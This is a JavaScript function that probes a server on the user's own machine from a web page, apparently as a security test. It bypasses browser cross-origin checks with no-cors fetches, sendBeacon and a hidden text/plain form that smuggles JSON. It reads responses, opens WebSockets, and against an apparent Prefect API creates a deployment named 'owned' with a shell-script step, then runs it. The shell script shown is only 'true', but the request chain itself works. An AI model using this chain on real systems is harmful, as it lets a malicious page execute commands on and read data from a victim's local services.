// What a page can do to a server on this machine, given the server's address. Returns what it could read, and how it fared.
async (target, gets, posts, sockets, greetings) => {
  const read = [], notes = [];
  const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
  const attempt = async (name, promise) => {
    try {
      const answer = await promise;
      const text = answer.type === "opaque" ? "" : await answer.text();
      notes.push(`${name}: ${answer.type} ${answer.status}`);
      if (answer.ok && text) read.push([name, text.slice(0, 300)]);
      return answer.ok && text && answer.headers.get("content-type")?.includes("json") ? JSON.parse(text) : null;
    } catch (error) {
      notes.push(`${name}: ${error}`);
      return null;
    }
  };
  const send = async (method, path, body) => {
    const text = JSON.stringify(body), url = target + path, name = `${method} ${path}`;
    // a request that the browser asks about first; a server that is busy with the others says 503
    let got = null;
    for (let tries = 0; tries < 5 && got === null; tries++)
      got = await attempt(`${name} json`, fetch(url, { method, body: text, headers: { "Content-Type": "application/json" } }));
    // simple requests, about which it does not ask: as text, without a type, in the background, as a form
    await attempt(`${name} text`, fetch(url, { method, mode: "no-cors", body: text, headers: { "Content-Type": "text/plain" } }));
    await attempt(`${name} untyped`, fetch(url, { method, mode: "no-cors", body: new Blob([text]) }));
    navigator.sendBeacon(url, new Blob([text]));
    const form = document.createElement("form"), frame = document.createElement("iframe"), field = document.createElement("input");
    frame.name = `frame${Math.random()}`;
    Object.assign(form, { method: "post", action: url, enctype: "text/plain", target: frame.name });
    Object.assign(field, { name: text.slice(0, -1) + ',"x":"', value: '"}' });
    form.append(field);
    document.documentElement.append(frame, form);
    form.submit();
    return got;
  };
  for (const path of gets) {
    await attempt(`GET ${path}`, fetch(target + path));
    await attempt(`GET ${path} credentials`, fetch(target + path, { credentials: "include" }));
  }
  for (const [path, body] of posts) {
    const made = await send("POST", path, body);
    if (path === "/api/flows/" && made?.id) {
      const steps = [{ "prefect.deployments.steps.run_shell_script": { script: "true" } }];
      const deployment = await send("POST", "/api/deployments/", { name: "owned", flow_id: made.id, pull_steps: steps });
      if (deployment?.id) await send("POST", `/api/deployments/${deployment.id}/create_flow_run`, {});
    }
  }
  const talk = (path, protocols, greeting) =>
    new Promise((resolve) => {
      const socket = new WebSocket(target.replace("http", "ws") + path, protocols), name = `WS ${path} ${protocols}`;
      socket.onopen = async () => {
        notes.push(`${name}: open`);
        for (const message of greeting) {
          socket.send(JSON.stringify(message));
          await pause(150);
        }
      };
      socket.onmessage = (message) => read.push([name, String(message.data).slice(0, 300)]);
      socket.onclose = socket.onerror = resolve;
      setTimeout(() => { socket.close(); resolve(); }, 3000);
    });
  const talks = sockets.flatMap((path) => [[], ["prefect"]].flatMap((protocols) => greetings.map((each) => talk(path, protocols, each))));
  await Promise.all(talks);
  await pause(1000);
  return { read, notes, origin: self.origin };
}
